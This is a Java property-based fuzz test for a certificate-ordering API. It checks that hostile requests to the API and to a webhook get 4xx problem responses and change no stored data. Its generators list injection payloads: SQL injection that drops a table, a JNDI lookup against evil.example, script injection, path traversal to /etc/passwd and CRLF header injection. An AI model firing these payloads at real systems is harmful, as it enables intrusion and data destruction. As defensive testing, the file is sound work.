package nl.certflow.fuzz;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import nl.certflow.ApiClient;
import nl.certflow.ApiClient.Response;
import nl.certflow.CertflowApplication;
import nl.certflow.RawHttp;
import nl.certflow.RawHttp.Answer;
import nl.certflow.TestCsrs;
import nl.certflow.TestOrders;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Hostile input, generated: every API body, path, query and header and the webhook form get huge fields, wrong
 * types, broken PEM, unicode, injection strings and missing fields. Whatever arrives, certflow answers a 4xx
 * problem (or, for input that happens to be valid, its normal answer) — never a 5xx — and a rejection changes
 * nothing. jqwik runs the service once for the whole class (it does not run Spring's test extension).
 */
class HostileInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String CN = "fuzz.example.com";
    private static final String VALID_CSR = TestCsrs.ec(CN);
    private static final int MAX_BODY = 64 * 1024;

    private static ConfigurableApplicationContext app;
    private static ApiClient api;
    private static RawHttp raw;
    private static JdbcTemplate jdbc;

    @BeforeContainer
    static void start() {
        app = new SpringApplicationBuilder(CertflowApplication.class)
                .profiles("test")
                // an H2 URL of its own, so that the PostgreSQL test run (PostgresTestDatabaseInitializer) moves it
                .run("--server.port=0", "--spring.datasource.url=jdbc:h2:mem:certflow-fuzz;DB_CLOSE_DELAY=-1");
        int port = app.getEnvironment().getRequiredProperty("local.server.port", Integer.class);
        api = new ApiClient(port);
        raw = new RawHttp(port);
        jdbc = app.getBean(JdbcTemplate.class);
    }

    @AfterContainer
    static void stop() {
        if (app != null) {
            app.close();
        }
    }

    // ------------------------------------------------------------------ properties

    @Property
    void createWithHostileFieldsIsRejectedWithoutTrace(@ForAll("hostileOrders") String body) {
        long orders = count("cf_order");
        Response response = api.post("alice", "alice-secret", "/api/orders", body);
        if (response.status() == 201) {
            return; // the mutations happened to leave a valid order
        }
        assertProblem(response);
        assertThat(count("cf_order")).isEqualTo(orders);
    }

    @Property
    void patchWithHostileFieldsIsRejectedWithoutTrace(@ForAll("hostilePatches") String body) {
        String id = openOrder();
        String before = order(id);
        Response response = api.patch("alice", "alice-secret", "/api/orders/" + id, body);
        if (response.status() == 200) {
            return;
        }
        assertProblem(response);
        assertThat(order(id)).isEqualTo(before);
    }

    @Property
    void cancelWithAHostileBodyIsRejectedWithoutTrace(
            @ForAll("hostileValues") JsonNode reason, @ForAll boolean wrapped) {
        String id = openOrder();
        String before = order(id);
        String body = wrapped ? NODES.objectNode().set("reason", reason).toString() : reason.toString();
        Response response = api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", body);
        if (response.status() == 202) {
            return;
        }
        assertProblem(response);
        assertThat(order(id)).isEqualTo(before);
    }

    /**
     * Issue 13: a reissue body of any shape is a 400, a 409 (an Open order cannot be reissued) or a 413 (over the size
     * cap), never a trace.
     */
    @Property
    void reissueWithAHostileBodyIsRejectedWithoutTrace(
            @ForAll("hostileValues") JsonNode value, @ForAll("reissueFields") String field) {
        String id = openOrder();
        String before = order(id);
        String body = NODES.objectNode().set(field, value).toString();
        Response response = api.post("alice", "alice-secret", "/api/orders/" + id + "/reissue", body);
        assertProblem(response);
        assertThat(response.status())
                .as("400, 409, or 413 for values over the size cap")
                .isIn(400, 409, 413);
        assertThat(order(id)).isEqualTo(before);
    }

    @Provide
    Arbitrary<String> reissueFields() {
        return Arbitraries.of("csr", "reason", "keyCompromised");
    }

    @Property
    void hostilePathsAndQueriesAreRejectedWithoutTrace(
            @ForAll("hostileStrings") String id,
            @ForAll("hostileStrings") String status,
            @ForAll("hostileStrings") String page,
            @ForAll("methodsAndPaths") String methodAndPath) {
        long orders = count("cf_order");
        long history = count("cf_order_history");
        String[] parts = methodAndPath.split(" ", 2);
        String path = parts[1].replace("{id}", pathSegment(id)) + "?status=" + query(status) + "&page=" + query(page)
                + "&size=" + query(id);
        Response response = api.send(api.request("alice", "alice-secret", path)
                .header("Content-Type", "application/json")
                .method(parts[0], HttpRequest.BodyPublishers.ofString("{}")));

        assertThat(response.status()).as(path + " " + response.body()).isBetween(400, 499);
        assertThat(response.contentType()).as(path).startsWith("application/problem+json");
        assertThat(count("cf_order")).isEqualTo(orders);
        assertThat(count("cf_order_history")).isEqualTo(history);
    }

    @Property
    void hostileHeadersNeverCauseA5xx(
            @ForAll("headerValues") String contentType,
            @ForAll("headerValues") String accept,
            @ForAll("headerValues") String authorization,
            @ForAll("headerValues") String forwardedFor,
            @ForAll("methodsAndPaths") String methodAndPath) {
        long orders = count("cf_order");
        String[] parts = methodAndPath.split(" ", 2);
        Response response = api.send(api.request(null, null, parts[1].replace("{id}", "x"))
                .header("Content-Type", contentType)
                .header("Accept", accept)
                .header("Authorization", authorization)
                .header("X-Forwarded-For", forwardedFor)
                .method(
                        parts[0],
                        HttpRequest.BodyPublishers.ofString(TestOrders.dv(CN).toString())));

        assertThat(response.status()).as(response.body()).isBetween(400, 499);
        assertThat(count("cf_order")).isEqualTo(orders);
    }

    @Property
    void hostileWebhookFormIsRejectedOrStoredOnce(@ForAll("hostileForms") String form, @ForAll boolean asGet) {
        long pushes = count("cf_ca_push");
        Response response = asGet
                ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
                : api.form("sectigo", "push-secret", "/webhooks/sectigo", form);
        if (response.status() == 200) {
            assertThat(response.body()).isIn("OK", "OK duplicate");
            assertThat(count("cf_ca_push")).isEqualTo(pushes + (response.body().equals("OK") ? 1 : 0));
            return;
        }
        assertProblem(response);
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    @Property
    void hostileWebhookParameterNamesAreRejectedOrStoredOnce(
            @ForAll("hostileStrings") String name, @ForAll("hostileStrings") String value, @ForAll boolean asGet) {
        long pushes = count("cf_ca_push");
        String form = "orderNumber=1&statusCode=12&" + query(name) + "=" + query(value);
        Response response = asGet
                ? api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form)
                : api.form("sectigo", "push-secret", "/webhooks/sectigo", form);
        if (response.status() == 200) {
            assertThat(count("cf_ca_push")).isLessThanOrEqualTo(pushes + 1);
            return;
        }
        assertProblem(response);
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    @Property
    void cancelWithDuplicateKeysIsRejectedWithoutTrace(
            @ForAll("hostileValues") JsonNode first, @ForAll("hostileValues") JsonNode second) {
        String id = openOrder();
        String before = order(id);
        Response response = api.post(
                "alice",
                "alice-secret",
                "/api/orders/" + id + "/cancel",
                "{\"reason\":" + first + ",\"reason\":" + second + "}");

        assertProblem(response); // 400, or 413 for values over the size cap
        assertThat(order(id)).isEqualTo(before);
    }

    /** Any method, any content type, with or without valid credentials, on every door: a 4xx problem or a success. */
    @Property
    void hostileMethodsAndContentTypesAreProblems(
            @ForAll("methods") String method,
            @ForAll("contentTypes") String contentType,
            @ForAll("accepts") String accept,
            @ForAll("doors") String path,
            @ForAll boolean authenticated,
            @ForAll boolean withBody) {
        long orders = count("cf_order");
        long pushes = count("cf_ca_push");
        String credentials = !authenticated
                ? ""
                : path.startsWith("/webhooks")
                        ? RawHttp.basic("sectigo", "push-secret")
                        : RawHttp.basic("alice", "alice-secret");
        Answer answer = raw.send(
                method,
                path,
                credentials + "Content-Type: " + contentType + "\r\nAccept: " + accept + "\r\n",
                withBody ? "orderNumber=1&statusCode=12" : null);

        assertThat(answer.status())
                .as(method + " " + path + " " + contentType + ": " + answer.body())
                .isLessThan(500);
        if (answer.status() >= 400 && !method.equals("HEAD")) { // a HEAD answer has no body
            assertRawProblem(answer, answer.status());
        }
        assertThat(count("cf_order")).isEqualTo(orders);
        assertThat(count("cf_ca_push")).isLessThanOrEqualTo(pushes + 1);
    }

    // ------------------------------------------------------------------ what a black-box fuzz found (issue 18)

    @Example
    void multipartWithoutAValidBoundaryIsAnsweredAsIfItWereNotMultipart() {
        long pushes = count("cf_ca_push");
        for (String contentType : List.of(
                "multipart/form-data",
                "multipart/form-data; boundary=",
                "multipart/form-data; boundary=x",
                "multipart/mixed")) {
            String header = "Content-Type: " + contentType + "\r\n";
            Answer list = raw.send("GET", "/api/orders", RawHttp.basic("alice", "alice-secret") + header, null);
            assertThat(list.status()).as(list.body()).isEqualTo(200);
            assertRawProblem(
                    raw.send("POST", "/api/orders", RawHttp.basic("alice", "alice-secret") + header, "--x\r\n"), 415);
            assertRawProblem(
                    raw.send(
                            "GET",
                            "/webhooks/sectigo?statusCode=12",
                            RawHttp.basic("sectigo", "push-secret") + header,
                            null),
                    400);
            assertRawProblem(
                    raw.send(
                            "POST",
                            "/webhooks/sectigo",
                            RawHttp.basic("sectigo", "push-secret") + header,
                            "orderNumber=1&statusCode=12"),
                    400);
        }
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    @Example
    void controlCharactersInAFormParameterNameAreABadRequest() {
        long pushes = count("cf_ca_push");
        for (String name : List.of("%00", "a%00b", "%1B%5B31m", "%7F")) {
            String form = "orderNumber=1&statusCode=12&" + name + "=v";
            assertProblem(api.get("sectigo", "push-secret", "/webhooks/sectigo?" + form), 400);
            assertProblem(api.form("sectigo", "push-secret", "/webhooks/sectigo", form), 400);
        }
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    @Example
    void duplicateKeysInACancelAreABadRequest() {
        String id = openOrder();
        String before = order(id);
        for (String body : List.of(
                "{\"reason\":90.5,\"reason\":\"a\\u0000b\"}",
                "{\"reason\":\"1e309\",\"reason\":[1,2]}",
                "{\"reason\":\"a\",\"reason\":\"b\"}")) {
            assertProblem(api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", body), 400);
        }
        assertThat(order(id)).isEqualTo(before);
    }

    @Example
    void methodsCertflowDoesNotKnowAre405Problems() {
        for (String method : List.of("CONNECT", "PROPFIND", "FOO")) {
            assertRawProblem(raw.send(method, "/api/orders/x", RawHttp.basic("alice", "alice-secret"), null), 405);
            assertRawProblem(raw.send(method, "/webhooks/sectigo", "", null), 405);
        }
        // Spring Security's firewall refuses TRACE first
        assertRawProblem(raw.send("TRACE", "/api/orders/x", RawHttp.basic("alice", "alice-secret"), null), 4);
    }

    @Example
    void requestsTomcatRefusesBeforeCertflowAreProblems() {
        String auth = RawHttp.basic("alice", "alice-secret");
        for (String target : List.of(
                "/api/orders/x%00",
                "/api/orders/x%2fy",
                "/api/orders/x%5cy",
                "/api/orders/x%ff",
                "/api/orders/x%",
                "/api/orders/%C3%28",
                "/api/orders/" + "a".repeat(9_000),
                "/api/orders/x\u0001")) {
            assertRawProblem(raw.send("GET", target, auth, null), 400);
        }
        assertRawProblem(raw.send("GET", "/api/orders", auth + "X-Test: a\u0001b\r\n", null), 400);
        assertRawProblem(raw.send("GET", "/api/orders", auth + "X-Big: " + "a".repeat(9_000) + "\r\n", null), 4);
        assertRawProblem(
                raw.send("POST", "/api/orders", auth + "Expect: 200-ok\r\nContent-Type: application/json\r\n", "{}"),
                417);
    }

    @Example
    void errorsAreProblemsWhateverTheClientAccepts() {
        String auth = RawHttp.basic("alice", "alice-secret");
        String html = "Accept: text/html\r\n";
        assertRawProblem(raw.send("DELETE", "/api/orders/x", auth + html, null), 405);
        assertRawProblem(raw.send("GET", "/api/orders/x", auth + html, null), 406);
        assertRawProblem(raw.send("POST", "/api/orders", auth + html + "Content-Type: text/plain\r\n", "hello"), 415);
        assertRawProblem(
                raw.send(
                        "PUT",
                        "/webhooks/sectigo",
                        RawHttp.basic("sectigo", "push-secret") + "Accept: text/plain\r\n",
                        null),
                405);
        assertRawProblem(raw.send("GET", "/api/orders/does-not-exist", auth + "Accept: application/xml\r\n", null), 4);
    }

    @Example
    void anUnknownFieldIsNamed() {
        Response create = api.post(
                "alice",
                "alice-secret",
                "/api/orders",
                TestOrders.dv(CN).put("csr", VALID_CSR).put("price", 10).toString());
        assertProblem(create, 400);
        assertThat(create.json().get("errors").findValuesAsText("field")).containsExactly("price");

        String id = openOrder();
        Response patch = api.patch(
                "alice", "alice-secret", "/api/orders/" + id, "{\"requester\":{\"name\":\"A\",\"fax\":\"1\"}}");
        assertProblem(patch, 400);
        assertThat(patch.json().get("errors").findValuesAsText("field")).containsExactly("requester.fax");
    }

    @Example
    void aNumberOrABooleanWhereTheContractSaysTextIsNamed() {
        String id = openOrder();
        String before = order(id);
        for (String reason : List.of("false", "90.5", "7")) {
            Response cancel =
                    api.post("alice", "alice-secret", "/api/orders/" + id + "/cancel", "{\"reason\":" + reason + "}");
            assertProblem(cancel, 400);
            assertThat(cancel.json().get("errors").findValuesAsText("field")).containsExactly("reason");
        }
        assertThat(order(id)).isEqualTo(before);

        Response create = api.post(
                "alice",
                "alice-secret",
                "/api/orders",
                TestOrders.dv(CN).put("csr", VALID_CSR).put("commonName", true).toString());
        assertProblem(create, 400);
        assertThat(create.json().get("errors").findValuesAsText("field")).containsExactly("commonName");
        Response sans = api.post(
                "alice",
                "alice-secret",
                "/api/orders",
                TestOrders.dv(CN)
                        .put("csr", VALID_CSR)
                        .set(
                                "subjectAlternativeNames",
                                NODES.arrayNode().add("www." + CN).add(5))
                        .toString());
        assertProblem(sans, 400);
        assertThat(sans.json().get("errors").findValuesAsText("field")).containsExactly("subjectAlternativeNames[1]");
    }

    @Example
    void theErrorPathIsNotFound() {
        assertProblem(api.get(null, null, "/error"), 404);
        assertProblem(api.get("alice", "alice-secret", "/error"), 404);
        assertRawProblem(raw.send("POST", "/error", "", "x"), 404);
    }

    // ------------------------------------------------------------------ size limits

    @Example
    void oversizedBodiesAre413ProblemsAndStoreNothing() {
        long orders = count("cf_order");
        long pushes = count("cf_ca_push");
        String hugeOrder =
                TestOrders.dv(CN).put("commonName", "a".repeat(MAX_BODY)).toString();
        String hugeForm = "orderNumber=1&statusCode=6&statusDesc=" + "a".repeat(MAX_BODY);

        assertProblem(api.post("alice", "alice-secret", "/api/orders", hugeOrder), 413);
        assertProblem(
                api.send(api.request("alice", "alice-secret", "/api/orders")
                        .header("Content-Type", "application/json")
                        .POST(chunked(hugeOrder))),
                413);
        assertProblem(api.form("sectigo", "push-secret", "/webhooks/sectigo", hugeForm), 413);
        assertProblem(api.post(null, null, "/api/orders", hugeOrder), 413);
        Response chunkedForm = api.send(api.request("sectigo", "push-secret", "/webhooks/sectigo")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(chunked(hugeForm)));
        assertThat(chunkedForm.status())
                .as("Tomcat's form cap; the fields it dropped make it malformed")
                .isEqualTo(400);

        assertThat(count("cf_order")).isEqualTo(orders);
        assertThat(count("cf_ca_push")).isEqualTo(pushes);
    }

    @Example
    void bodiesJustUnderTheCapAreRead() {
        String body = TestOrders.dv(CN)
                .put("commonName", "a".repeat(MAX_BODY - 2_000))
                .toString();
        Response response = api.send(api.request("alice", "alice-secret", "/api/orders")
                .header("Content-Type", "application/json")
                .POST(chunked(body)));
        assertProblem(response, 400);
        assertThat(response.json().get("errors").findValuesAsText("field")).contains("commonName");
    }

    // ------------------------------------------------------------------ generators

    @Provide
    Arbitrary<String> hostileStrings() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('a', 'z').ofMinLength(1_000).ofMaxLength(MAX_BODY + 1_000),
                Arbitraries.of(
                        "' OR '1'='1",
                        "'; DROP TABLE cf_order; --",
                        "${jndi:ldap://evil.example/a}",
                        "#{7*7}",
                        "<script>alert(1)</script>",
                        "../../../etc/passwd",
                        "%00",
                        "\u0000",
                        "\r\nX-Injected: 1",
                        "",
                        " ",
                        "null",
                        "-1",
                        "2147483648",
                        "1e309",
                        "NaN",
                        "ＷＷＷ.example.com",
                        "é.example.nl",
                        "xn--.example",
                        "\u202Emoc.elpmaxe",
                        "😀.example.com",
                        "*.*.example.com",
                        "a..b",
                        "."),
                Arbitraries.of(brokenPems()));
    }

    @Provide
    Arbitrary<JsonNode> hostileValues() {
        return Arbitraries.oneOf(
                hostileStrings().map(NODES::textNode),
                Arbitraries.of(
                        NODES.nullNode(),
                        NODES.booleanNode(true),
                        NODES.numberNode(Long.MAX_VALUE),
                        NODES.numberNode(-1),
                        NODES.numberNode(0.5),
                        NODES.numberNode(new BigInteger("9".repeat(400))),
                        NODES.objectNode(),
                        NODES.arrayNode()),
                hostileStrings().list().ofMaxSize(3).map(values -> {
                    ArrayNode array = NODES.arrayNode();
                    values.forEach(array::add);
                    return array;
                }),
                Arbitraries.integers().between(1, 300).map(HostileInputTest::deeplyNested));
    }

    @Provide
    Arbitrary<String> hostileOrders() {
        return mutations(
                List.of(
                        "validation",
                        "commonName",
                        "subjectAlternativeNames",
                        "csr",
                        "validityDays",
                        "requester",
                        "requester.name",
                        "requester.email",
                        "requester.phone",
                        "company",
                        "company.name",
                        "company.kvkNumber",
                        "company.country",
                        "company.street",
                        "company.postalCode",
                        "company.city",
                        "extra"),
                true);
    }

    @Provide
    Arbitrary<String> hostilePatches() {
        return mutations(
                List.of(
                        "csr",
                        "subjectAlternativeNames",
                        "requester",
                        "requester.name",
                        "requester.email",
                        "requester.phone",
                        "company",
                        "company.name",
                        "company.kvkNumber",
                        "company.country",
                        "extra",
                        "validation"),
                false);
    }

    @Provide
    Arbitrary<String> methodsAndPaths() {
        return Arbitraries.of(
                "GET /api/orders/{id}",
                "PATCH /api/orders/{id}",
                "POST /api/orders/{id}/submit",
                "POST /api/orders/{id}/cancel",
                "GET /api/orders",
                "DELETE /api/orders/{id}",
                "PUT /api/orders/{id}",
                "POST /api/orders/{id}/unknown");
    }

    @Provide
    Arbitrary<String> headerValues() {
        return Arbitraries.oneOf(
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(60),
                Arbitraries.of(
                        "application/json",
                        "application/json; charset=ISO-8859-1",
                        "application/xml",
                        "text/plain",
                        "multipart/form-data; boundary=x",
                        "*/*",
                        "Basic",
                        "Basic !!!",
                        "Basic " + base64("alice"),
                        "Basic " + base64("alice:"),
                        "Basic " + base64(":alice-secret"),
                        "Bearer x.y.z",
                        "Digest username=alice",
                        "127.0.0.1, 10.0.0.1",
                        "unknown",
                        "::1",
                        "999.999.999.999"));
    }

    @Provide
    Arbitrary<String> hostileForms() {
        Arbitrary<String> field = Arbitraries.of(
                "orderNumber",
                "certificateID",
                "eventType",
                "status",
                "statusCode",
                "statusDesc",
                "certificate",
                "caCertificate",
                "revocationReasonCode",
                "unknown");
        Arbitrary<String> value = Arbitraries.oneOf(
                hostileStrings(), Arbitraries.of("6", "7", "8", "12", "14", "0", "-1", "12345678", "abc-_09"));
        Arbitrary<String> pair = Combinators.combine(field, value).as((name, v) -> name + "=" + query(v));
        return pair.list().ofMaxSize(8).map(pairs -> String.join("&", pairs));
    }

    @Provide
    Arbitrary<String> methods() {
        return Arbitraries.oneOf(
                Arbitraries.of(
                        "GET",
                        "HEAD",
                        "POST",
                        "PUT",
                        "PATCH",
                        "DELETE",
                        "OPTIONS",
                        "TRACE",
                        "CONNECT",
                        "PROPFIND",
                        "MKCOL"),
                Arbitraries.strings().withCharRange('A', 'Z').ofMinLength(1).ofMaxLength(12));
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.oneOf(
                Arbitraries.of(
                        "multipart/form-data",
                        "multipart/form-data; boundary=",
                        "multipart/form-data; boundary=x",
                        "multipart/mixed; boundary=\"\"",
                        "application/x-www-form-urlencoded",
                        "application/x-www-form-urlencoded; charset=x-unknown",
                        "application/json",
                        "application/json; charset=UTF-7",
                        "application/problem+json",
                        "text/plain",
                        "*/*",
                        "application/*",
                        "",
                        ";",
                        "a/b/c",
                        "multipart/"),
                Arbitraries.strings().withCharRange('!', '~').ofMaxLength(40));
    }

    @Provide
    Arbitrary<String> accepts() {
        return Arbitraries.oneOf(
                Arbitraries.of(
                        "*/*",
                        "text/html",
                        "text/plain",
                        "application/xml",
                        "application/json",
                        "application/problem+json",
                        "image/png;q=0.5",
                        "text/*",
                        ""),
                Arbitraries.strings().withCharRange('!', '~').ofMaxLength(30));
    }

    @Provide
    Arbitrary<String> doors() {
        return Arbitraries.of(
                "/api/orders",
                "/api/orders/x",
                "/api/orders/x/submit",
                "/api/orders/x/cancel",
                "/webhooks/sectigo",
                "/webhooks/sectigo?orderNumber=1&statusCode=12",
                "/api/unknown",
                "/error");
    }

    // ------------------------------------------------------------------ helpers

    private Arbitrary<String> mutations(List<String> fields, boolean create) {
        Arbitrary<Change> mutation = Combinators.combine(
                        Arbitraries.of(fields), Arbitraries.oneOf(hostileValues(), Arbitraries.just((JsonNode) null)))
                .as(Change::new);
        return mutation.list().ofMinSize(1).ofMaxSize(3).map(changes -> {
            ObjectNode order = create
                    ? TestOrders.dv(CN).put("csr", VALID_CSR)
                    : (ObjectNode) NODES.objectNode()
                            .set("requester", TestOrders.dv(CN).get("requester"));
            order.set("company", TestOrders.company("Test BV Donald", "68750110"));
            for (Change change : changes) {
                String[] path = change.field().split("\\.");
                ObjectNode parent = order;
                if (path.length == 2) {
                    if (!(order.get(path[0]) instanceof ObjectNode nested)) {
                        continue;
                    }
                    parent = nested;
                }
                String name = path[path.length - 1];
                if (change.value() == null) {
                    parent.remove(name);
                } else {
                    parent.set(name, change.value());
                }
            }
            return order.toString();
        });
    }

    /** Replace a field by a value, or remove it ({@code value} null). */
    private record Change(String field, JsonNode value) {}

    private static List<String> brokenPems() {
        String valid = VALID_CSR;
        List<String> pems = new ArrayList<>();
        pems.add(valid.substring(0, valid.length() / 2));
        pems.add(valid.replace("-----END CERTIFICATE REQUEST-----", ""));
        pems.add(valid.replaceFirst("[A-Za-z]", "!"));
        pems.add(valid.substring(0, 80) + "AAAA" + valid.substring(84));
        pems.add("-----BEGIN CERTIFICATE REQUEST-----\n-----END CERTIFICATE REQUEST-----\n");
        pems.add("-----BEGIN CERTIFICATE REQUEST-----\n" + "QUFB".repeat(3000)
                + "\n-----END CERTIFICATE REQUEST-----\n");
        pems.add("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n");
        pems.add(valid + valid);
        pems.add(TestCsrs.ec("other.example.com"));
        return pems;
    }

    private static JsonNode deeplyNested(int depth) {
        JsonNode node = NODES.textNode("x");
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    private static String openOrder() {
        Response created = api.post(
                "alice",
                "alice-secret",
                "/api/orders",
                TestOrders.dv(CN).put("csr", VALID_CSR).toString());
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return created.id();
    }

    private static String order(String id) {
        return api.get("alice", "alice-secret", "/api/orders/" + id).body();
    }

    private static long count(String table) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class);
    }

    private static void assertProblem(Response response) {
        assertThat(response.status()).as(response.body()).isBetween(400, 499);
        assertProblem(response, response.status());
    }

    private static void assertProblem(Response response, int status) {
        assertThat(response.status()).as(response.body()).isEqualTo(status);
        assertThat(response.contentType()).as(response.body()).startsWith("application/problem+json");
        assertThat(response.json().get("status").asInt()).isEqualTo(status);
        assertThat(response.json().get("title").asText()).isNotBlank();
    }

    /** {@code status} 4 stands for any 4xx. */
    private static void assertRawProblem(Answer answer, int status) {
        if (status == 4) {
            assertThat(answer.status()).as(answer.body()).isBetween(400, 499);
        } else {
            assertThat(answer.status()).as(answer.body()).isEqualTo(status);
        }
        assertThat(answer.contentType())
                .as(answer.status() + " " + answer.body())
                .startsWith("application/problem+json");
        assertThat(answer.body()).contains("\"status\":" + answer.status());
    }

    private static String pathSegment(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String query(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String base64(String value) {
        return Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8));
    }

    /** A body without Content-Length: sent chunked. */
    private static HttpRequest.BodyPublisher chunked(String body) {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        return HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes));
    }
}
